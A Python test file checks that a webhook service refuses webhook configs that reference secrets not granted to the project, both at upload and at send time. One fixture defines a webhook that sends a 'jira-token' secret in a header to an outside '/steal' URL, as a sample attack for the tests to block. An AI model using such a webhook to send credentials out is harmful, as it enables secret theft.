"""Webhook secret scoping: a project's webhook.yaml reads only the secrets granted to it —
refused at upload (400 naming secret and project), before queuing, and again at send time."""

from __future__ import annotations

import logging
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from pydantic import SecretStr

from selfheal.bootstrap import Container, build
from selfheal.bus import MemoryBus
from selfheal.control.specs import load_webhook
from selfheal.delivery import DeliveryQuery
from selfheal.integrations import IntegrationsSettings
from selfheal.integrations.callouts import INTEGRATION
from selfheal.integrations.errors import ConfigError, UngrantedSecret
from selfheal.integrations.grants import SecretGrants, references
from selfheal.integrations.manifests import load_manifest
from selfheal.integrations.transport import MemoryHttp
from selfheal.settings import Settings
from selfheal.web import create_app
from tests.support.paths import SEED
from tests.unit.control.conftest import b64
from tests.unit.integrations.test_integrations_actions import WEBHOOK, request, webhook_provider

ADMIN = {"Authorization": "*:*.admin-secret"}
BARE = """\
apiVersion: webhookconfig.keptn.sh/v1beta1
kind: WebhookConfig
spec:
  webhooks:
    - type: sh.keptn.event.action.triggered
      requests:
        - url: http://93.184.216.34/steal
          headers: [{key: X-Token, value: "{{.env.jira-token}}"}]
"""
URL = "http://93.184.216.34"


def test_references_name_every_secret_a_webhook_can_read() -> None:
    assert references(load_webhook(WEBHOOK % URL)) == [
        ("spec.webhooks[0].envFrom[0].secretRef.name", "pager"),
        ("spec.webhooks[0].requests[0]", "pager"),
    ]
    assert references(load_webhook(BARE)) == [("spec.webhooks[0].requests[0]", "jira-token")]
    grants = SecretGrants({"website": ["pager"]}, {"website": ["slack"], "shop": ["jira-token"]})
    assert grants.allows("website", "pager") and grants.allows("website", "slack")
    assert not grants.allows("website", "jira-token") and grants.allows("shop", "jira-token")
    with pytest.raises(UngrantedSecret) as caught:
        grants.check_webhook("website", load_webhook(BARE))
    assert "'jira-token' is not granted to project 'website'" in caught.value.message
    assert caught.value.field == "spec.webhooks[0].requests[0]"


async def test_ungranted_secret_is_refused_before_anything_is_sent() -> None:
    http = MemoryHttp()
    provider, box = webhook_provider(http)
    files = {"webhook/webhook.yaml": BARE}
    result = await provider.execute(request("webhook", None, files=files))
    assert result.status == "errored"
    assert "secret 'jira-token' is not granted to project 'website'" in result.message
    assert http.requests == [] and await box.store.find(DeliveryQuery()) == []
    # the same file with a grant of another project's secret only: still refused
    other, _ = webhook_provider(http, grants=SecretGrants({"shop": ["jira-token"]}))
    assert (await other.execute(request("webhook", None, files=files))).status == "errored"


async def test_ungranted_secret_is_refused_at_send_time_and_never_logged(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Defence in depth: a queued request whose project lost its grant (or never had one)
    fails when it is built; no value of the secret reaches the record or the log."""
    caplog.set_level(logging.DEBUG)
    http = MemoryHttp()
    provider, box = webhook_provider(http)
    ok = await provider.execute(
        request("webhook", None, files={"webhook/webhook.yaml": WEBHOOK % URL})
    )
    assert ok.status == "succeeded" and len(http.requests) == 1
    [sent] = await box.store.find(DeliveryQuery())
    args = dict(sent.args)
    args["event"] = {**args["event"], "data": {**args["event"]["data"], "project": "shop"}}
    delivery = await box.deliver(INTEGRATION, "request", args, dedup_key="replayed")
    assert delivery.status != "succeeded"
    assert "secret 'pager' is not granted to project 'shop'" in (delivery.error or "")
    assert len(http.requests) == 1
    assert "pager-secret-1" not in caplog.text and "pager-secret-1" not in str(delivery.public())


def test_integrations_yaml_grants_with_lines() -> None:
    manifest = load_manifest("webhook_secrets:\n  website: [pager, slack-hook]\n")
    assert manifest.webhook_secrets == {"website": ("pager", "slack-hook")}
    with pytest.raises(ConfigError) as caught:
        load_manifest("secrets: {}\nwebhook_secrets:\n  website: pager\n")
    assert (caught.value.field, caught.value.line) == ("webhook_secrets.website", 3)


@pytest.fixture
async def system(settings: Settings, tmp_path: Path) -> AsyncIterator[Container]:
    path = tmp_path / "integrations.yaml"
    path.write_text("webhook_secrets:\n  website: [pager]\nintegrations: []\n")
    integrations = IntegrationsSettings(
        file=str(path),
        secrets={"jira-token": SecretStr("jira-secret-2"), "pager.token": SecretStr("p-1")},
        webhook_secrets={"shop": ["jira-token"]},
    )
    c = await build(settings.model_copy(update={"integrations": integrations}), bus=MemoryBus())
    await c.start()
    try:
        yield c
    finally:
        await c.stop()


async def upload(http: httpx.AsyncClient, project: str, text: str) -> httpx.Response:
    return await http.post(
        f"/api/configuration-service/v1/project/{project}/resource",
        json={"resources": [{"resourceURI": "webhook/webhook.yaml", "resourceContent": b64(text)}]},
        headers=ADMIN,
    )


async def test_upload_refuses_a_webhook_with_an_ungranted_secret(system: Container) -> None:
    app = create_app(system, manage_lifecycle=False)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://test"
    ) as http:
        shipyard = b64((SEED / "shipyard.yaml").read_text())
        for project in ("website", "shop"):
            r = await http.post(
                "/api/controlPlane/v1/project",
                json={"projectName": project, "shipyard": shipyard},
                headers=ADMIN,
            )
            assert r.status_code == 201, r.text
        r = await upload(http, "website", BARE)
        assert r.status_code == 400, r.text
        body = r.json()
        assert "secret 'jira-token' is not granted to project 'website'" in body["message"]
        assert body["field"] == "spec.webhooks[0].requests[0]"
        assert "jira-secret-2" not in r.text
        resources = await system.control.service.list_resources("website")
        assert all("webhook" not in res.uri for res in resources)  # nothing stored
        # granted in integrations.yaml (website: pager) and in settings (shop: jira-token)
        assert (await upload(http, "website", WEBHOOK % URL)).status_code == 201
        resources = await system.control.service.list_resources("website")
        assert [res.uri for res in resources if "webhook" in res.uri] == ["webhook/webhook.yaml"]
        assert (await upload(http, "shop", BARE)).status_code == 201
        assert (await upload(http, "shop", WEBHOOK % URL)).status_code == 400
